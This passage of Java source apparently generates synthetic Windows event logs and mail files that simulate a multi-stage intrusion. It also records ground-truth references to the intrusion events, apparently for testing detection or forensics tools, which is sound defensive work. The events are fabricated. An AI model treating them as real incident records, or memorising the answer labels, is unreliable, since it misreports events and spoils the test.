                    intrusionRefs.add(f + "#" + (record + 1));
                }
                EventBuilder b = new EventBuilder(e.provider(), e.id()).eventRecordId(++record).channel(e.channel())
                        .computer(e.host()).timeCreated(e.time()).execution(4 + e.id() % 1000, 100 + e.id() % 7000);
                if (e.userData() != null) {
                    b.userData(e.userData());
                } else {
                    for (Map.Entry<String, String> d : e.data().entrySet()) {
                        if (d.getKey().startsWith("\u0000")) {
                            b.data(Value.string(d.getValue()));
                        } else {
                            b.data(d.getKey(), d.getValue());
                        }
                    }
                }
                if (e.provider().equals("Service Control Manager")) {
                    b.qualifiers(16384);
                }
                xml.add(b.build());
            }
            EvtxWriter.standard().write(xml, f);
            files.add(f);
        }
        Path mailDir = Files.createDirectories(dir.resolve("mail"));
        for (String[] m : messages) {
            Path f = mailDir.resolve(m[0]);
            Files.writeString(f, m[2], StandardCharsets.UTF_8);
            files.add(f);
            if (m[1].equals("intrusion")) {
                intrusionRefs.add(f.toString()); // a message's alerts refer to it as file or file#place
            }
        }
        Instant last = Instant.parse("2022-10-27T22:40:31Z").plusSeconds(91);
        return new Written(dir, List.copyOf(files), events.size(), FIRST, last, List.of(EXCH, DC, DB), EXCH,
                List.of("execution", "discovery", "credential-access", "lateral-movement", "collection", "defense-evasion"),
                Set.copyOf(intrusionRefs));
    }

    // ---- small things ----

    private String hostOf(String ip) {
        for (Map.Entry<String, String> a : addresses.entrySet()) {
            if (a.getValue().equals(ip)) {
                return a.getKey().substring(0, a.getKey().indexOf('.'));
            }
        }
        return "-";
    }

    private static String sid(String user) {
        return "S-1-5-21-3623811015-3361044348-30300820-" + (1100 + Math.floorMod(user.hashCode(), 800));
    }

    private static String utc(Instant t) {
        return DateTimeFormatter.ofPattern("uuuu-MM-dd HH:mm:ss.SSS", Locale.ROOT).withZone(ZoneOffset.UTC).format(t);
    }

    private String hex(int bytes) {
        StringBuilder sb = new StringBuilder(bytes * 2);
        for (int i = 0; i < bytes; i++) {
            sb.append(String.format(Locale.ROOT, "%02X", random.nextInt(256)));
        }
        return sb.toString();
    }

    private static String utf16Base64(String script) {
        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    }
}
